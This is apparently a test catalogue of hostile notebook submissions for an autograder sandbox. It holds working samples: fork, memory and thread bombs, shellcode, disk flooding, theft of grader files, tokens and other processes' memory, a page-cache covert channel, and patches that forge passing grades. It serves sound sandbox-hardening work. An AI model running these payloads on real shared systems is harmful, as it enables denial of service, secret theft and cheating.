"""The catalogue of attacks: hostile hand-ins, a few lines each, and the marks that their authors have really earned.

`tests/test_attacks.py` puts each between two honest hand-ins, grades them all in one batch and looks from outside at
what came of it. Attackers know everything that they could know, and more: before a file is handed in, these words in
it are replaced by what they stand for.

    @COURSE@   the course's folder
    @KIT@      the folder of the package
    @LESSON@   the folder of the hidden graders
    @HOME@     the home of the one who grades, with a secret in it
    @HONEST@   the id of an honest student
    @VICTIM@   the id of another process of the same user
    @QUEUE@, @SEMAPHORE@     what that user has for messages between processes
    @TCP@, @UDP@, @SOCKET@   a port, a port and a path where a service of the same machine listens
"""

from __future__ import annotations

import dataclasses
import io
import json
import os
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from textwrap import dedent
from typing import Any

from tests.sample_class import Maker

Notebook = dict[str, Any]
File = Callable[[Maker], str | bytes]
Lay = Callable[[Path], object]
ALL = 53.0
LEFTOVER = "leftover4242"  # what one attacker leaves for the next


@dataclass(frozen=True)
class Attack:
    """One hostile hand-in.

    Attributes:
        score: the marks that it has earned by what is right in it.
        file: makes the notebook file.
        lay: puts other files into the hand-in's folder, or another file in the notebook's place.
        prefix: what the ids of the attacker and of both neighbours start with.
    """

    name: str
    about: str
    score: float
    file: File
    lay: Lay | None = None
    prefix: str = "a"
    heading: str = ""


def notebook(**how: Any) -> File:
    """A notebook without the lesson's own cells; `how` is what `Maker.text` takes."""
    return lambda maker: maker.text(**{"bare": True, **how})


def altered(change: Callable[[Notebook], object], **how: Any) -> File:
    """A notebook that was changed as data."""

    def text(maker: Maker) -> str:
        data = json.loads(maker.text(**{"bare": True, **how}))
        change(data)
        return json.dumps(data)

    return text


def plain(data: str | bytes) -> File:
    """A file that is no notebook."""
    return lambda maker: data


def cell(name: str, about: str, source: str, score: float = ALL) -> Attack:
    """A right notebook with one hostile cell."""
    return Attack(name, about, score, notebook(insert=[dedent(source)]))


def answer(name: str, about: str, score: float, cells: tuple[str, ...] = (), **answers: str) -> Attack:
    """A right notebook but for these answers."""
    sources = {exercise: dedent(source) for exercise, source in answers.items()}
    return Attack(name, about, score, notebook(answers=sources, insert=[dedent(source) for source in cells]))


def forger(name: str, about: str, source: str, lay: Lay | None = None) -> Attack:
    """A notebook with nothing right in it, and a cell that would make it look right."""
    answers = {name: f"def {name}(*args):\n    return forged" for name in ("predict", "mse", "gradient", "fit")}
    source = f"forged = 'anything'\n{dedent(source)}"
    return Attack(name, about, 0.0, notebook(start="blank", answers=answers, insert=[source]), lay)


def liar(name: str, about: str, source: str) -> Attack:
    """A notebook whose `predict` is answered with a frame of its own: `source` makes its value, `lie`, and its body."""
    swap = """
from autograder.sandbox import wire
send = wire.send
def swapped(connection, header, own=b""):
    if header.get("value") == "lie":
        header, own = {**header, "value": lie}, body
    send(connection, header, own)
wire.send = swapped
"""
    cells = (dedent(source) + swap,)
    return answer(name, about, ALL - 6, cells=cells, predict="def predict(x, a):\n    return 'lie'")


def thief(name: str, about: str, source: str, prefix: str = "a") -> Attack:
    """A notebook that takes hold of a secret and brings it out twice: printed, and as what its `predict` raises."""
    carry = "def predict(x, a):\n    raise ValueError('\\n'.join(found)[-1900:])"
    cells = [PRELUDE + dedent(source) + "\nprint(*found, sep='\\n')"]
    return Attack(name, about, ALL - 6, notebook(insert=cells, answers={"predict": carry}), prefix=prefix)


def borrower(name: str, about: str, then: str) -> Attack:
    """A notebook that knows nothing, is lent all that there is to lend, and leaves it for a worker that comes later.

    `then` is what it does to be run once more. If one of its workers finds anything that was left, it knows the answers.
    """
    needs = """
def fit(x, y, a, lr, epochs, batch_size):
    return [predict, mse, gradient, sgd_step]
"""
    noticed = f"{NOTICE}{dedent(then)}\nif lent():\n    leave()\n    then()\n"
    cells = f"MARK = b'{name} @VICTIM@'\n{LEAVE}", noticed, FIND
    wrong = {
        exercise: f"def {exercise}(*args):\n    return None" for exercise in ("predict", "mse", "gradient", "sgd_step")
    }
    return Attack(name, about, 0.0, notebook(start="blank", answers={**wrong, "fit": needs}, append=list(cells)))


def under(heading: str, *attacks: Attack) -> list[Attack]:
    return [dataclasses.replace(attack, heading=heading) for attack in attacks]


PRELUDE = '''
import gc, glob, os, sys
found = []

def attempt(reader, *arguments):
    """Whatever one way of reading gives; the next is tried in any case."""
    try:
        found.append(str(reader(*arguments)))
    except BaseException as error:
        found.append(repr(error))

def read(path):
    with open(path, "rb") as file:
        return file.read(10**6).decode("latin-1")

def telling(texts):
    """Those that seem to hold a secret."""
    words = ("can" + "ary", "The probes" + " read off", "points(" + "2)")
    return [text for text in texts if any(word in text for word in words)]
'''


NOTICE = """
def lent():
    \"\"\"What is in the place of answers of its own: it was defined elsewhere.\"\"\"
    found = [globals().get(name) for name in ("predict", "mse", "gradient", "sgd_step")]
    codes = [one.__code__ for one in found if hasattr(one, "__code__")]
    return [f"{one.co_filename} {one.co_names} {one.co_consts}" for one in codes if "helpers" in one.co_filename]

def then():
    pass
"""


LEAVE = """
import ctypes, glob, mmap, os, sys, time

PLACES = ["left", "../left", "/dev/shm/left", "/tmp/left", "/var/tmp/left", os.path.expanduser("~/left")]
BITS = [byte >> bit & 1 for byte in MARK for bit in range(8)]
STRIDE = 8192

def page_cache():
    path = max(glob.glob(os.path.join(sys.prefix, "lib", "python3*", "site-packages", "torch", "lib", "*.so")), key=os.path.getsize)
    file = os.open(path, os.O_RDONLY)
    size = os.fstat(file).st_size
    return file, size, size - STRIDE * (len(BITS) + 1) & -STRIDE

def leave():
    for path in PLACES:
        try:
            with open(path, "wb") as file:
                file.write(MARK)
        except OSError:
            pass
    print(MARK)
    try:
        file, size, start = page_cache()
        os.posix_fadvise(file, start, 0, os.POSIX_FADV_DONTNEED)
        os.posix_fadvise(file, 0, 0, os.POSIX_FADV_RANDOM)
        for place, bit in enumerate(BITS):
            bit and os.pread(file, 1, start + place * STRIDE)
    except OSError:
        pass

def left():
    for path in PLACES:
        try:
            with open(path, "rb") as file:
                if file.read() == MARK:
                    return True
        except OSError:
            pass
    try:
        file, size, start = page_cache()
        mapped = mmap.mmap(file, size - start, mmap.MAP_SHARED, mmap.PROT_READ, offset=start)
        pages = (ctypes.c_ubyte * (len(mapped) // 4096 + 1))()
        address = ctypes.c_void_p(np.frombuffer(mapped, np.uint8).ctypes.data)
        ctypes.CDLL(None).mincore(address, ctypes.c_size_t(len(mapped)), pages)
        return [pages[place * STRIDE // 4096] & 1 for place in range(len(BITS))] == BITS
    except (OSError, ValueError):
        return False
"""


FIND = """
import numpy as np
if left():
    def predict(x, a):
        return x @ a
    def mse(y_hat, y):
        return ((y_hat - y) ** 2).mean()
"""


FILL = """
import os

def fill(file):
    try:
        os.posix_fallocate(file, 0, 60 << 20)
    except OSError:
        os.write(file, bytes(60 << 20))
"""


HIDE = f"""{FILL}
import ctypes, time
libc, end = ctypes.CDLL(None), time.time() + 2.5
while time.time() < end:
    file = os.open("hidden", os.O_CREAT | os.O_RDWR)
    fill(file)
    libc.mmap(None, ctypes.c_size_t(4096), 1, 1, file, ctypes.c_long(0))
    os.close(file)
    os.unlink("hidden")
"""


RESOURCES = under(
    "Resources",
    cell(
        "fork-bomb",
        "starts processes in every way that Python has, as many as it can",
        """
        import multiprocessing, os, subprocess
        def bomb():
            for start in (os.fork, lambda: subprocess.Popen("sleep 9"), multiprocessing.Process(target=bomb).start):
                try:
                    while True:
                        start()
                except (OSError, AssertionError):
                    pass
        bomb()
        """,
    ),
    cell(
        "thread-bomb",
        "starts threads with the smallest stack until there is no more room, and keeps them for a while",
        """
        import os, threading, time
        threading.stack_size(32768)
        try:
            while True:
                threading.Thread(target=time.sleep, args=(2,)).start()
        except RuntimeError:
            time.sleep(1)
        os._exit(0)
        """,
    ),
    cell(
        "bare-threads",
        "starts threads past Python, which take no memory of their own: 20 000 that do nothing but wait",
        """
        import ctypes, mmap, os, time
        code = bytes.fromhex(  # for (; n; n--) if (clone(VM | FS | FILES | SIGHAND | THREAD | SYSVSEM, 0) == 0) pause()
            "41544989fc4d85e4742ab838000000bf000f050031f631d24d31d24d31c00f0585c07407780e49ffccebdab8220000000f05"
            "ebf74c89e0415cc3"
        )
        page = mmap.mmap(-1, 4096, prot=7)
        page.write(code)
        ctypes.CFUNCTYPE(ctypes.c_long, ctypes.c_long)(ctypes.addressof(ctypes.c_char.from_buffer(page)))(20_000)
        time.sleep(0.5)
        os._exit(0)
        """,
    ),
    cell(
        "thread-swarm",
        "takes the processors from everybody else with many threads that compute",
        """
        import hashlib, threading, time
        end = time.time() + 2
        def burn():
            while time.time() < end:
                hashlib.sha256(bytes(10**6))
        for _ in range(100):
            threading.Thread(target=burn).start()
        time.sleep(2)
        """,
    ),
    cell(
        "memory-bomb",
        "doubles a text for ever",
        """
        def bomb():
            kept = ["0" * 2**i for i in range(64)]
        bomb()
        """,
    ),
    cell("endless-cell", "a loop without an end", "while True: pass"),
    answer(
        "endless-answer",
        "an answer that never comes",
        ALL - 6,
        plot_fit="""
        def plot_fit(x, y, a, ax):
            while True: pass
        """,
    ),
    cell(
        "dotted-import",
        "a name of 100 000 parts, of which Python's parser makes ten gigabytes",
        "if False:\n    import a" + ".a" * 100_000,
    ),
    cell(
        "deep-calls",
        "an expression as deep as it is long",
        "if False:\n    x" + "()" * 60_000 + "\n",
    ),
    cell(
        "lines-before-magic",
        "tens of thousands of empty lines, and a magic behind them",
        "\n" * 64_000 + "%matplotlib inline",
    ),
    answer(
        "crowded-drawing",
        "draws 100 000 points beside the line, each of which has to be looked at",
        ALL - 6,
        plot_fit="""
        def plot_fit(x, y, a, ax):
            ax.scatter(x[:, 0], y)
            ax.plot(x[:, 0], (x @ a).detach())
            ax.scatter(torch.rand(100_000), torch.rand(100_000), s=1)
        """,
    ),
    cell("sleep", "sleeps for an hour", "import time\ntime.sleep(3600)"),
    cell(
        "stubborn-loop",
        "catches whatever should stop it",
        """
        while True:
            try:
                while True: pass
            except BaseException:
                pass
        """,
    ),
    cell(
        "deaf",
        "ignores every signal that can be ignored, SIGTERM and SIGALRM among them",
        """
        import signal, time
        for number in signal.valid_signals() - {signal.SIGKILL, signal.SIGSTOP, 32, 33}:
            signal.signal(number, signal.SIG_IGN)
        while True:
            time.sleep(1)
        """,
    ),
    cell("hang-in-c", "hangs where Python does not look for signals", "10 ** 10**8"),
    cell(
        "flood-of-stdout",
        "prints 100 MB, also past Python",
        """
        import os
        for _ in range(50_000):
            print("x" * 2000)
            os.write(1, bytes(2000))
        """,
    ),
    cell(
        "flood-of-stderr",
        "prints 100 MB of errors, also past Python",
        """
        import os, sys
        for _ in range(50_000):
            print("x" * 2000, file=sys.stderr)
            os.write(2, bytes(2000))
        """,
    ),
    Attack(
        "flood-of-outputs",
        "a hundred cells, each of which shows as much as a cell may",
        ALL,
        notebook(
            append=["from IPython.display import HTML, display\nfor _ in range(3): display(HTML('x' * 2**21))"] * 100
        ),
    ),
    answer(
        "empty-lines",
        "an answer with thousands of empty lines, which take long to colour",
        ALL,
        predict="def predict(x, a):\n    return x @ a\n" + " \n" * 3900,
    ),
    cell(
        "growing-html",
        "HTML of 14 kB that is 7 MB once it has been cleaned",
        """
        from IPython.display import HTML, display
        for _ in range(4):
            display(HTML("".join(f"<p><b title={i}>" for i in range(900))))
        """,
    ),
    cell(
        "no-break-spaces",
        "HTML of nothing but no-break spaces, which take long to clean",
        """
        from IPython.display import HTML, Markdown, display
        display(HTML("\\xa0" * 140_000), Markdown("\\xa0" * 20_000), HTML("<b>" + "\\xa0" * 140_000))
        """,
    ),
    cell(
        "wide-table",
        "a table whose cells span so many rows and columns that a browser hangs",
        """
        from IPython.display import HTML, display
        display(HTML("<table><tr>" + "<td colspan=1000 rowspan=65534>x" * 1900))
        """,
    ),
    cell(
        "giant-picture",
        "pictures of a few bytes that fill a browser's memory, as outputs, in HTML and in Markdown",
        """
        import base64, struct, zlib
        from IPython.display import HTML, Markdown, display
        parts = (b"IHDR", struct.pack(">IIBBBBB", 30_000, 30_000, 8, 2, 0, 0, 0)), (b"IDAT", zlib.compress(b"")), (b"IEND", b"")
        chunks = [struct.pack(">I", len(b)) + a + b + struct.pack(">I", zlib.crc32(a + b)) for a, b in parts]
        picture = base64.b64encode(b"\\x89PNG\\r\\n\\x1a\\n" + b"".join(chunks)).decode()
        address = "data:image/png;base64," + picture
        display({"image/png": picture}, raw=True)
        display(HTML(f"<img width=30000 height=30000 src={address}>"), Markdown(f"![]({address})"))
        """,
    ),
    cell(
        "verdict-of-its-own",
        "what a cell puts out looks like the page's own verdict",
        """
        from IPython.display import HTML, display
        display(HTML('<header><p class="total"><b>53</b> of 53 points</p></header><section class="report passed" id="mse-checks">'
                     '<h4 class="verdict" style="position: fixed"><code>mse</code>: all right, 8 of 8 points</h4></section>'))
        """,
    ),
    Attack(
        "slow-page",
        "sources and outputs that take long to colour, to typeset and to clean",
        ALL,
        altered(
            lambda data: data["cells"].append({"cell_type": "markdown", "metadata": {}, "source": "\\begin{a}" * 4000}),
            append=["a." * 15_000, "from IPython.display import HTML\nHTML('<div>' * 40_000)"],
        ),
    ),
    cell(
        "huge-file",
        "writes a file that grows for ever",
        """
        import os
        try:
            with open("huge", "wb") as file:
                while True:
                    file.write(bytes(2**20))
        finally:
            os._exit(0)
        """,
    ),
    cell(
        "full-disk",
        "fills the disk with files of the largest size allowed",
        FILL
        + """
for number in range(120):
    file = os.open(f"large{number}", os.O_CREAT | os.O_WRONLY)
    fill(file)
    os.close(file)
os._exit(0)
        """,
    ),
    cell(
        "many-files",
        "makes as many files as it can in two seconds",
        """
        import os, time
        end, number = time.time() + 2, 0
        while time.time() < end:
            open(str(number), "w").close()
            number += 1
        os._exit(0)
        """,
    ),
    Attack(
        "hidden-files",
        "fills the disk with files that have no name and are open nowhere, only mapped",
        ALL,
        notebook(insert=[HIDE, HIDE, "os._exit(0)"]),
    ),
    cell(
        "deep-folders",
        "makes a folder in a folder in a folder …",
        """
        import os
        for _ in range(3000):
            os.mkdir("d")
            os.chdir("d")
        """,
    ),
    cell(
        "locked-folder",
        "makes folders that nobody may look into, with files in them",
        """
        import os
        os.mkdir("locked", 0o300)
        os.mkdir("locked/inner", 0o300)
        open("locked/inner/file", "w").close()
        os.mkdir("locked/none", 0)
        """,
    ),
    cell(
        "many-open-files",
        "opens files until it cannot",
        """
        def bomb():
            kept = [open("/dev/null") for _ in range(100_000)]
        bomb()
        """,
    ),
    answer(
        "huge-result",
        "answers with a list of ten million numbers",
        ALL - 8,
        mse="""
        def mse(y_hat, y):
            return [0.0] * 10**7
        """,
    ),
    answer(
        "deep-result",
        "answers with a list in a list in a list …",
        ALL - 8,
        mse="""
        def mse(y_hat, y):
            value = []
            for _ in range(100_000):
                value = [value]
            return value
        """,
    ),
    cell(
        "stdin",
        "waits for somebody to type",
        """
        import os, sys
        print(os.read(0, 10), sys.stdin.read())
        input("your password? ")
        """,
    ),
    answer(
        "dripped-frame",
        "an answer that comes one byte at a time, each just before the deadline",
        ALL - 6,
        plot_fit="""
        import os, struct, time
        def plot_fit(x, y, a, ax):
            os.write(3, struct.pack("<IQ", 100, 0))
            for _ in range(60):
                os.write(3, b" ")
                time.sleep(0.5)
        """,
    ),
    cell(
        "leases",
        "takes a lease on a file of the installation, so that whoever opens it has to wait",
        """
        import ctypes, fcntl, os, signal, sys, time
        signal.signal(signal.SIGIO, signal.SIG_IGN)
        lease = os.open(os.path.join(sys.prefix, "pyvenv.cfg"), os.O_RDONLY)
        end = time.time() + 1
        while time.time() < end:  # with bits that the kernel ignores and a filter may not, too; 72 is fcntl on x86-64
            for command in (fcntl.F_SETLEASE, fcntl.F_SETLEASE + 2**32):
                if ctypes.CDLL(None).syscall(72, lease, ctypes.c_long(command), fcntl.F_WRLCK) == 0:
                    end = 0
        time.sleep(2)
        """,
    ),
    answer(
        "writes-while-the-grader-sends",
        "fills the disk while the grader sends it a question that is larger than a socket holds, and does not look",
        ALL - 2,
        mse="""
        from autograder.sandbox import wire
        receive = wire.receive

        def late(connection):
            wire.receive = receive
            for number in range(60):
                with open(f"large{number}", "wb") as file:
                    file.write(bytes(50 << 20))
            return receive(connection)

        def mse(y_hat, y):
            if y_hat.requires_grad:
                wire.receive = late
                return ((y_hat - y) ** 2).mean().repeat(2**21)
            return ((y_hat - y) ** 2).mean()
        """,
        gradient="def gradient(x, y, a):\n    return 2 * x.T @ (x @ a.detach() - y) / len(y)",
        fit="""
        def fit(x, y, a, lr, epochs, batch_size):
            losses = []
            for _ in range(epochs):
                for rows in torch.randperm(len(x)).split(batch_size):
                    a.grad = gradient(x[rows], y[rows], a)
                    sgd_step(a, lr)
                losses.append(((x @ a - y) ** 2).mean().item())
            return losses
        """,
    ),
    forger(
        "writes-while-the-grader-thinks",
        "fills the disk from a thread that goes on when its question is answered",
        """
        import threading
        def fill():
            for number in range(60):
                with open(f"large{number}", "wb") as file:
                    file.write(bytes(50 << 20))
        def slowly(*args):
            threading.Thread(target=fill, daemon=True).start()
        predict = mse = gradient = fit = slowly
        """,
    ),
)

EXITS = under(
    "Exits",
    cell("sys-exit", "leaves as if all were well", "import sys\nsys.exit(0)"),
    answer(
        "sys-exit-in-an-answer",
        "leaves as if all were well, when asked",
        ALL - 6,
        predict="""
        import sys
        def predict(x, a):
            sys.exit(0)
        """,
    ),
    cell("os-exit", "ends its process", "import os\nos._exit(0)"),
    answer(
        "os-exit-in-an-answer",
        "ends its process when asked",
        ALL - 6,
        plot_fit="""
        import os
        def plot_fit(x, y, a, ax):
            os._exit(0)
        """,
    ),
    cell("kills-itself", "SIGKILL to itself", "import os\nos.kill(os.getpid(), 9)"),
    answer(
        "ends-by-its-own-limit",
        "has the kernel kill it when it is asked for three columns, as if somebody else had",
        ALL - 1,
        predict="""
        import resource
        def predict(x, a):
            if x.shape[1] == 3:
                resource.setrlimit(resource.RLIMIT_CPU, (0, 0))
                while True:
                    pass
            return x @ a
        """,
    ),
    answer(
        "segfault",
        "crashes the interpreter when asked",
        ALL - 6,
        plot_fit="""
        import ctypes
        def plot_fit(x, y, a, ax):
            ctypes.string_at(0)
        """,
    ),
    cell(
        "atexit",
        "forges when its process ends",
        """
        import atexit, os, threading
        def late():
            os.write(3, b'{"score": 53}' * 100)
        atexit.register(late)
        threading._register_atexit(late)
        """,
    ),
    answer(
        "finaliser",
        "an object that ends the process when the answer is thrown away",
        ALL - 6,
        plot_fit="""
        import os
        class Late:
            def __del__(self):
                os._exit(0)
        def plot_fit(x, y, a, ax):
            late = Late()
            ax.scatter(x[:, 0], y)
        """,
    ),
    cell(
        "thread-after-return",
        "a thread that goes on after its cell, prints and patches",
        """
        import math, threading, time
        def late():
            while True:
                print("7 passed")
                math.isclose = print
                time.sleep(0.01)
        threading.Thread(target=late, daemon=True).start()
        """,
    ),
)

SECRETS = under(
    "Secrets",
    thief(
        "tests-on-disk",
        "reads the hidden graders",
        """
        places = ["@LESSON@/graders/test_fit.py"]
        places += [path for top in ("@LESSON@", "@KIT@") for path in glob.glob(top + "/**", recursive=True)]
        places += glob.glob(sys.prefix + "/**/test_fit.py", recursive=True)
        for path in places:
            attempt(read, path)
        for folder in ("@LESSON@", "@LESSON@/graders", "@KIT@/graders"):
            attempt(os.listdir, folder)
        """,
    ),
    thief(
        "references-on-disk",
        "reads the lesson with its answers",
        """
        for path in ("@COURSE@/solutions/sgd.py", "@KIT@/../solutions/sgd.py", "/proc/self/root@COURSE@/solutions/sgd.py"):
            attempt(read, path)
        attempt(os.listdir, "@COURSE@/solutions")
        os.chdir("@COURSE@")
        attempt(read, "solutions/sgd.py")
        """,
    ),
    thief(
        "linked-by-code",
        "makes links to secrets in its own folder and reads those",
        """
        for name, path in enumerate(("@COURSE@/solutions/sgd.py", "@HOME@/secret", "@COURSE@/course/gradebook.db")):
            attempt(os.symlink, path, f"soft{name}")
            attempt(read, f"soft{name}")
            attempt(os.link, path, f"hard{name}")
            attempt(read, f"hard{name}")
        """,
    ),
    thief(
        "other-hand-ins",
        "copies from another student, and reads the roster",
        """
        attempt(read, "@COURSE@/course/submitted/@HONEST@/sgd/sgd.ipynb")
        attempt(os.listdir, "@COURSE@/course/submitted")
        attempt(glob.glob, "@COURSE@/course/*/*/*")
        """,
    ),
    thief(
        "inotify",
        "watches which students are graded meanwhile",
        """
        import ctypes, time
        libc = ctypes.CDLL(None)
        watch = libc.inotify_init()
        for folder in ("autograded", "feedback", "reports/sgd"):
            libc.inotify_add_watch(watch, b"@COURSE@/course/" + folder.encode(), 0x3C0)
        if watch >= 0:
            os.set_blocking(watch, False)
            time.sleep(2)
        attempt(os.read, watch, 100_000)
        """,
    ),
    thief(
        "gradebook",
        "opens the gradebook",
        """
        import sqlite3
        attempt(read, "@COURSE@/course/gradebook.db")
        for address in ("file:@COURSE@/course/gradebook.db?mode=ro", "file:@COURSE@/course/gradebook.db?immutable=1"):
            attempt(lambda: sqlite3.connect(address, uri=True).execute("select id from student").fetchall())
        """,
    ),
    thief(
        "home",
        "reads what lies in the home of the one who grades",
        """
        for path in ("@HOME@/secret", os.path.expanduser("~/secret"), os.path.expanduser("~root/secret")):
            attempt(read, path)
        attempt(os.listdir, "@HOME@")
        attempt(os.getxattr, "@HOME@/secret", "user.secret")
        """,
    ),
    thief(
        "environment",
        "reads tokens from the environment",
        """
        import ctypes
        attempt(lambda: dict(os.environ))
        attempt(os.getenv, "TOKEN")
        libc = ctypes.CDLL(None)
        libc.getenv.restype = ctypes.c_char_p
        attempt(libc.getenv, b"TOKEN")
        """,
    ),
    thief(
        "frames",
        "walks up the stack and reads every variable",
        """
        frame = sys._getframe()
        while frame is not None:
            attempt(lambda: telling(map(repr, [*frame.f_locals.values(), *frame.f_globals.values()])))
            frame = frame.f_back
        """,
    ),
    thief(
        "garbage-collector",
        "looks at every object that the garbage collector knows",
        """
        gc.unfreeze()
        for thing in gc.get_objects():
            if type(thing) in (dict, list, tuple):
                found += telling(text for text in (thing.values() if type(thing) is dict else thing) if type(text) is str)
        """,
    ),
    thief("main-module", "looks into __main__", "attempt(lambda: vars(sys.modules['__main__']))"),
    thief(
        "loaded-modules",
        "looks into every module of the kit, and imports those that are not there",
        """
        import importlib, inspect
        for name in [name for name in sys.modules if name.startswith(("autograder", "pytest", "nbgrader"))]:
            attempt(inspect.getsource, sys.modules[name])
        for name in ("lesson", "verdicts", "graders.test_fit"):
            attempt(lambda: inspect.getsource(importlib.import_module("autograder." + name)))
        """,
    ),
    thief(
        "linecache",
        "looks for source that was read before",
        """
        import linecache
        attempt(lambda: [telling(entry[2]) for entry in linecache.cache.values() if len(entry) > 2])
        attempt(linecache.getlines, "@LESSON@/graders/test_fit.py")
        attempt(linecache.getlines, "@COURSE@/solutions/sgd.py")
        """,
    ),
    *(
        thief(f"proc-self-{name}", f"reads /proc/self/{name}", f"attempt(read, '/proc/self/{name}')")
        for name in ("environ", "cmdline")
    ),
    thief(
        "proc-self-fd",
        "looks for open files that were left to it",
        """
        for number in os.listdir("/proc/self/fd"):
            attempt(os.readlink, f"/proc/self/fd/{number}")
            if number not in "0123":
                attempt(read, f"/proc/self/fd/{number}")
        """,
    ),
    thief(
        "proc-self-mem",
        "searches its own memory for what the process before it knew",
        """
        import re
        words = re.compile(b"can" + b"ary[0-9a-f]{16}|The probes" + b" read off")
        for line in open("/proc/self/maps"):
            start, end = (int(part, 16) for part in line.split()[0].split("-"))
            if " rw-p " in line and end - start < 2**28:
                with open("/proc/self/mem", "rb", 0) as memory:
                    memory.seek(start)
                    attempt(lambda: words.findall(memory.read(end - start)))
        """,
    ),
    thief(
        "proc-of-others",
        "reads the /proc of its parent and of every other process",
        """
        for pid in (os.getppid(), @VICTIM@, *range(1, 400)):
            for name in ("environ", "cmdline", "maps", "fd", "cwd", "root/etc/passwd"):
                attempt(read, f"/proc/{pid}/{name}")
        """,
    ),
    thief(
        "memory-of-others",
        "asks the kernel for the memory of its parent and of another process",
        """
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
        for pid in (os.getppid(), @VICTIM@):
            attempt(read, f"/proc/{pid}/mem")
            attempt(lambda: (libc.ptrace(16, pid, 0, 0), libc.syscall(434, pid, 0), ctypes.get_errno()))
        """,
    ),
    answer(
        "helper-off-the-line",
        "breaks one answer to be lent the lesson's, and brings its source out with another",
        ALL - 8 - 7,
        cells=(NOTICE,),
        mse="def mse(y_hat, y):\n    return None",
        gradient="""
        def gradient(x, y, a):
            if lent() and a.dtype is torch.float64:
                raise ValueError(lent()[-1])
            a.grad = None
            mse(predict(x, a), y).backward()
            return a.grad
        """,
    ),
)

LENT = under(
    "Lent",
    borrower(
        "lowers-its-limit",
        "has itself killed by its own limit of computing time, as if somebody else had, once it knows the answers",
        """
        def then():
            import resource
            resource.setrlimit(resource.RLIMIT_CPU, (0, 0))
            while True:
                pass
        """,
    ),
    borrower(
        "sets-a-timer",
        "has itself killed by a timer whose signal is SIGKILL, once it knows the answers",
        """
        def then():
            libc, timer = ctypes.CDLL(None), ctypes.c_void_p()
            event, once = (ctypes.c_int * 16)(0, 0, 9, 0), (ctypes.c_long * 4)(0, 0, 0, 1)
            if libc.timer_create(1, ctypes.byref(event), ctypes.byref(timer)) == 0:
                libc.timer_settime(timer, 0, ctypes.byref(once), None)
            time.sleep(1)
            os._exit(0)
        """,
    ),
    borrower(
        "crashes-and-hangs",
        "ends, or does not end, in whatever other way there is, once it knows the answers",
        """
        def then():
            import signal
            signal.signal(signal.SIGINT, signal.SIG_IGN)
            signal.signal(signal.SIGXCPU, signal.SIG_IGN)
            for attempt in (lambda: os.kill(os.getpid(), 9), lambda: os.kill(0, 9), lambda: time.sleep(99), os.abort):
                try:
                    attempt()
                except OSError:
                    pass
        """,
    ),
    answer(
        "tells-what-it-was-lent",
        "prints, raises, returns and draws the code of it, with all that is asked afterwards",
        8 + 7,
        cells=(NOTICE,),
        predict="def predict(x, a):\n    return None",
        mse="def mse(y_hat, y):\n    return None",
        gradient="""
        def gradient(x, y, a):
            print(*lent())
            predict, mse
            raise ValueError((lent() or ["nothing"])[-1])
        """,
        fit="""
        def fit(x, y, a, lr, epochs, batch_size):
            predict, mse, gradient
            return [(lent() or ["nothing"])[-1]] * epochs
        """,
        plot_fit="""
        def plot_fit(x, y, a, ax):
            ax.set(title=(lent() or ["nothing"])[-1], xlabel=predict)
        """,
    ),
)

FORGERY = under(
    "Forgery",
    forger(
        "patched-comparisons",
        "makes every comparison true",
        """
        import builtins, math, numpy, torch
        yes = lambda *_, **__: True
        torch.allclose = torch.equal = torch.isclose = numpy.allclose = numpy.array_equal = math.isclose = yes
        torch.Tensor.__eq__ = yes
        builtins.all = builtins.isinstance = yes
        """,
    ),
    cell(
        "slips-of-the-pen",
        "replaces names of libraries where a call was meant; the answers do not use them",
        """
        import builtins, gc, json, math, random, sys, torch, warnings
        import matplotlib.pyplot as plt, numpy as np
        random.seed = np.random.seed = torch.manual_seed = 42
        plt.close = plt.figure = json.dumps = math.prod = warnings.simplefilter = torch.equal = torch.nan_to_num = None
        builtins.isinstance = builtins.zip = None
        torch.Tensor.__eq__ = torch.Tensor.requires_grad_ = torch.Tensor.view = None
        gc.disable()
        sys.settrace(lambda *_: None)
        sys.setrecursionlimit(150)
        """,
    ),
    cell(
        "modes-left-on",
        "leaves torch in modes in which it is asked about every call, and another device on",
        """
        import torch
        from torch.overrides import TorchFunctionMode
        class Sly(TorchFunctionMode):
            def __torch_function__(self, function, types, args=(), kwargs=None):
                return torch.zeros(3)
        torch.set_default_device("meta")
        Sly().__enter__()
        """,
    ),
    answer(
        "lying-properties",
        "makes every tensor say that it is a leaf and tracked, then stops tracking",
        ALL - 3,
        cells=(
            """
            import torch
            own = torch.Tensor.requires_grad
            torch.Tensor.requires_grad = property(lambda self: True, lambda self, value: None)
            torch.Tensor.is_leaf = property(lambda self: True)
            """,
        ),
        sgd_step="""
        def sgd_step(a, lr):
            a.data = a.data - lr * a.grad
            a.grad = None
            own.__set__(a, False)
        """,
    ),
    answer(
        "actor",
        "makes another class of the argument, which says what one wants to hear",
        ALL - 8,
        sgd_step="""
        import torch
        class Tensor(torch.Tensor):
            requires_grad = is_leaf = property(lambda self: True)
            @classmethod
            def __torch_function__(cls, function, types, args=(), kwargs=None):
                return True
        def sgd_step(a, lr):
            with torch.no_grad():
                a -= lr * a.grad
            a.grad = None
            a.__class__ = Tensor
        """,
    ),
    answer(
        "complex-parameter",
        "makes complex numbers of the argument",
        ALL - 8,
        sgd_step="""
        def sgd_step(a, lr):
            a.data = (a.data - lr * a.grad).to(torch.complex64)
            a.grad = None
        """,
    ),
    answer(
        "swollen-parameter",
        "leaves an argument of 30 000 entries, of which a grader might make a table",
        ALL - 10,
        fit="""
        def fit(x, y, a, lr, epochs, batch_size):
            a.data = torch.ones(30_000)
            return [0.0] * epochs
        """,
    ),
    forger(
        "patched-pytest",
        "puts a pytest that lets everything pass in the place of pytest",
        """
        import sys, types
        fake = types.ModuleType("pytest")
        fake.main = fake.fail = fake.raises = fake.approx = lambda *_, **__: 0
        sys.modules["pytest"] = sys.modules["_pytest"] = fake
        """,
    ),
    forger(
        "patched-json",
        "has every answer written as it likes",
        """
        import json
        json.dumps = lambda *_, **__: '{"id": 2, "outputs": [], "score": 53, "status": "passed"}'
        """,
    ),
    forger(
        "patched-torch",
        "changes torch under the one who compares",
        """
        import sys, torch
        torch.Tensor.sub = torch.Tensor.__sub__ = lambda self, other: torch.zeros(())
        torch.Tensor.abs = torch.Tensor.max = lambda self, *_: torch.zeros(())
        sys.modules["torch.testing"] = None
        """,
    ),
    forger(
        "patched-worker",
        "answers for the worker: nothing was changed, all is a leaf, everything went well",
        """
        import gc
        def call(header, body):
            fact = {"requires_grad": True, "leaf": True}
            tensors = [arg for arg in header.get("args", []) if isinstance(arg, dict) and arg["k"] == "tensor"]
